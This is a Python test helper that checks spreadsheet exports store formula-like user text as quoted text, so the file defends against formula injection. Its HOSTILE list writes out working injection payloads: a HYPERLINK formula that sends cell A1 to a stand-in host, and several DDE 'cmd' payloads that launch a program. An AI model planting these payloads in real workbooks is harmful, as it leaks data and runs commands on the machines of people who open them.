"""User text a spreadsheet would take for a formula, and the check that a downloaded workbook
holds it as text (DESIGN.md, Input bounds): shared by the tests of every .xlsx export."""

import io

from openpyxl import load_workbook

# DESIGN.md's list, spelt out here so the tests do not take it from the code they check.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# One per start DESIGN.md names (= + - @ tab CR), each harmful if a spreadsheet ran it.
HOSTILE = [
    '=HYPERLINK("http://x.example/?d="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# Short ones, for names with tight limits.
HOSTILE_NAMES = ["=1+2", "+1+2", "-1+2", "@SUM(1)", "\t=1+2", "\r=1+2"]


def as_read(text: str) -> str:
    """``text`` as any XML reader gets it back: XML turns a CR into a line feed."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def text_cells(data: bytes) -> dict[str, list]:
    """Every string cell of the workbook ``data``, by value, after checking that no cell of
    it is a formula and that every text a spreadsheet would run carries the quote prefix."""
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    formulas = [_where(c) for c in cells if c.data_type == "f"]
    assert formulas == [], "formula cells"
    unquoted = [
        _where(c)
        for c in cells
        if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS) and not c.quotePrefix
    ]
    assert unquoted == [], "text a spreadsheet would run, without the quote prefix"
    found: dict[str, list] = {}
    for cell in cells:
        if isinstance(cell.value, str):
            found.setdefault(cell.value, []).append(cell)
    return found


def _where(cell) -> str:
    return f"{cell.parent.title}!{cell.coordinate}: {cell.value!r}"


def assert_written_as_text(data: bytes, exact=(), inside=()) -> None:
    """No formula in the workbook ``data``; each of ``exact`` is a text cell of its own, each
    of ``inside`` part of one."""
    found = text_cells(data)
    for text in exact:
        cells = found.get(as_read(text))
        assert cells, f"no cell holds {text!r}"
        assert all(c.data_type == "s" for c in cells), text
        # A CR comes back as a line feed, so the check above cannot see that one.
        if text.startswith(FORMULA_STARTS):
            assert all(c.quotePrefix for c in cells), f"{text!r} without the quote prefix"
    for text in inside:
        assert any(as_read(text) in value for value in found), f"no cell contains {text!r}"
